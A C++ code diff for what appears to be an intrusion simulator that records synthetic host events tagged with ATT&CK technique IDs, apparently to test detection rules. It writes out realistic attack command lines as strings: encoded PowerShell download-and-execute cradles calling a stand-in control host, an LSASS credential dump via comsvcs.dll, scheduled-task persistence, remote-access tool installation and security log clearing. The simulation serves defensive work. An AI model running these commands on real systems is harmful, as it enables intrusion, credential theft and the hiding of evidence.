@@ -2,6 +2,7 @@
 #include "core/world/intrusion.h"
 
 #include "core/world/base64.h"
+#include "core/world/intrusion_steps.h"
 #include "core/world/office.h"
 
 #include <algorithm>
@@ -11,39 +12,15 @@ namespace rulewright::world {
 
 namespace {
 
-constexpr std::string_view system32 = "C:\\Windows\\System32\\";
-constexpr std::string_view powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
-constexpr std::string_view services = "HKLM\\System\\CurrentControlSet\\Services\\";
-
-/// What differs between two intrusions, and how far this one has come.
-struct Intrusion {
-    Recorder& r;
-    std::string controlName{};
-    std::string controlAddress{};
-    std::string relayAddress{};
-    std::string fileName{}; ///< of what they leave behind, without ending
-    Micros time = 0;
-
-    /// Moves on by some seconds.
-    Micros soon() { return time += r.random().between(second, 20 * second); }
-
-    void pause(Micros atLeast) { time += atLeast + r.random().between(0, atLeast); }
-
-    Process run(const Process& parent, std::string_view program, std::string commandLine)
-    {
-        return r.start(soon(), parent, std::format("{}{}", system32, program), std::move(commandLine));
-    }
-
-    Process runPowerShell(const Process& parent, std::string_view arguments)
-    {
-        return r.start(soon(), parent, std::string(powershell), std::format("powershell.exe {}", arguments));
-    }
-};
-
 std::string userFolder(const Desk& desk) { return std::format("C:\\Users\\{}", user(*desk.session.user).name); }
 
-/// A macro starts a shell, which fetches code: the shell that the intruders work in.
-Process openInvoice(Intrusion& at, const Desk& desk, const Process& mail)
+struct Foothold {
+    Process office;
+    Process loader; ///< the shell that the intruders work in
+};
+
+/// A macro starts a shell, which fetches code.
+Foothold openInvoice(Intrusion& at, const Desk& desk, const Process& mail)
 {
     const std::string document
         = std::format("{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2LX0AB\\Invoice_{}.docm",
@@ -60,7 +37,7 @@ Process openInvoice(Intrusion& at, const Desk& desk, const Process& mail)
     const Process loader = at.runPowerShell(shell, std::format("-nop -w hidden -enc {}", base64OfUtf16(code)));
     at.r.query(at.soon(), loader, at.controlName, at.controlAddress);
     at.r.connect(at.soon(), loader, at.controlAddress, at.controlName, 443);
-    return loader;
+    return {office, loader};
 }
 
 void lookAround(Intrusion& at, const Process& loader)
@@ -85,7 +62,9 @@ void installAnyDesk(Intrusion& at, const Process& loader)
     const Process fetcher = at.runPowerShell(loader,
         std::format(
             "-c \"(New-Object Net.WebClient).DownloadFile('http://{}/ad.exe','{}')\"", at.controlName, portable));
+    at.r.setAttack({"T1105", "T1219", "T1059.001"});
     at.r.connect(at.soon(), fetcher, at.controlAddress, at.controlName, 80);
+    at.r.setAttack({"T1105", "T1219"});
     at.r.createFile(at.soon(), fetcher, portable);
 
     at.r.setAttack({"T1219", "T1219.002"});
@@ -96,7 +75,10 @@ void installAnyDesk(Intrusion& at, const Process& loader)
     at.r.createFile(at.soon(), setup, installed);
     at.r.setAttack({"T1219", "T1543.003"});
     at.r.setValue(
-        at.soon(), setup, std::format("{}AnyDesk\\ImagePath", services), std::format("\"{}\" --service", installed));
+        at.soon(), setup, std::format("{}AnyDesk\\ImagePath", servicesKey), std::format("\"{}\" --service", installed));
+    at.r.setAttack({"T1219.002"});
+    at.r.changeKey(at.soon(), setup, "CreateKey", std::format("{}AnyDesk", servicesKey));
+    at.r.installService(at.soon(), setup.session, "AnyDesk", std::format("\"{}\" --service", installed));
     at.r.setAttack({"T1219", "T1219.002"});
     const Process echo = at.run(loader, "cmd.exe",
         std::format("cmd.exe /c echo Larch{}! | {} --set-password", at.time / second % 1000, installed));
@@ -131,6 +113,19 @@ void stay(Intrusion& at, const Desk& desk, const Process& loader)
         std::format("schtasks /create /f /sc minute /mo 30 /tn {} /tr {}", at.fileName, program)));
 }
 
+/// On the next day their program starts with the user's logon.
+Process comeBack(Intrusion& at, const Desk& desk)
+{
+    at.r.setAttack({"T1547.001"});
+    const std::string program = std::format("C:\\Users\\Public\\{}.exe", at.fileName);
+    const Process started = at.r.start(at.soon(), desk.explorer, program, program);
+    at.r.setAttack({"T1059.001"});
+    const Process shell = at.runPowerShell(
+        started, std::format("-nop -w hidden -enc {}", base64OfUtf16("while(1){iex (irm http://c/p);sleep 9}")));
+    at.r.connect(at.soon(), shell, at.controlAddress, at.controlName, 443);
+    return shell;
+}
+
 void blindDefender(Intrusion& at, const Desk& desk, const Process& loader)
 {
     at.r.setAttack({"T1685"});
@@ -141,13 +136,14 @@ void blindDefender(Intrusion& at, const Desk& desk, const Process& loader)
             "DWORD (0x00000001)");
 }
 
-void stealCredentials(Intrusion& at, const Process& loader)
+void stealCredentials(Intrusion& at, const Desk& desk, const Process& loader)
 {
     at.r.setAttack({"T1003.001", "T1218.011"});
     const Process dumper = at.run(loader, "rundll32.exe",
         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\PerfLogs\\lsass.dmp full");
     at.r.setAttack({"T1003.001"});
     at.r.createFile(at.soon(), dumper, "C:\\PerfLogs\\lsass.dmp");
+    readCredentials(at, desk, loader, dumper);
 }
 
 void runLibrary(Intrusion& at, const Process& parent)
@@ -179,7 +175,7 @@ void openTunnel(Intrusion& at, const Desk& desk)
 }
 
 /// Logs on to the server from outside, installs ScreenConnect there and works through it.
-void takeServer(Intrusion& at, const Desk& server)
+Process takeServer(Intrusion& at, const Desk& server)
 {
     at.r.setAttack({"T1021.001", "T1133"});
     const Session session = at.r.newSession(fileServer, backupUser);
@@ -212,6 +208,7 @@ void takeServer(Intrusion& at, const Desk& server)
     runLibrary(at, remote);
     at.r.setAttack({"T1685.005"});
     static_cast<void>(at.run(remote, "wevtutil.exe", "wevtutil cl Security"));
+    return remote;
 }
 
 /// A device at the reception that turns network packets into key presses.
@@ -257,10 +254,14 @@ void breakIn(Recorder& recorder, Desks& desks, std::size_t workingDay)
     recorder.setBenign();
     Desk& sales = desks.at(salesHost, workingDay);
     const Process mail = openMail(recorder, sales);
+    const Desk& again = desks.at(salesHost, next);
     const Desk& server = desks.at(fileServer, next);
     const Desk& developer = desks.at(developerHost, next);
     const Desk& reception = desks.at(receptionHost, next);
     const Desk& warehouse = desks.at(warehouseHost, next);
+    const Desk& accounting = desks.at(accountingHost, next);
+    const Desk& backup = desks.at(backupServer, next);
+    const Desk& controller = desks.at(domainController, next);
 
     Intrusion at{.r = recorder};
     at.controlName = random.pick(domains);
@@ -268,19 +269,29 @@ void breakIn(Recorder& recorder, Desks& desks, std::size_t workingDay)
     at.relayAddress = std::format("198.51.100.{}", random.between(100, 250));
     at.fileName = random.pick(names);
     at.time = desks.midnight(workingDay) + 10 * hour;
-    const Process loader = openInvoice(at, sales, mail);
+    const auto [office, loader] = openInvoice(at, sales, mail);
     at.pause(5 * minute);
     lookAround(at, loader);
+    hideInProcesses(at, sales, loader, office);
     installAnyDesk(at, loader);
     stay(at, sales, loader);
     blindDefender(at, sales, loader);
-    stealCredentials(at, loader);
+    stealCredentials(at, sales, loader);
+    proxyThroughSystem(at, sales, loader);
+    exploreDomain(at, loader);
 
-    at.time = std::max(at.time, desks.midnight(next) + 12 * hour);
-    takeServer(at, server);
+    at.time = std::max(at.time, desks.midnight(next) + 10 * hour);
+    const Process shell = comeBack(at, again);
+    const Process remote = takeServer(at, server);
     openTunnel(at, developer);
     plugDevice(at, reception);
     crossWarehouse(at, warehouse);
+    installRustDesk(at, accounting);
+    moveToServers(at, again, backup, controller, shell);
+    breakIntoWebServer(at);
+    takeCloudAccount(at);
+    carryOff(at, again, shell);
+    destroy(at, remote);
 }
 
 } // namespace rulewright::world
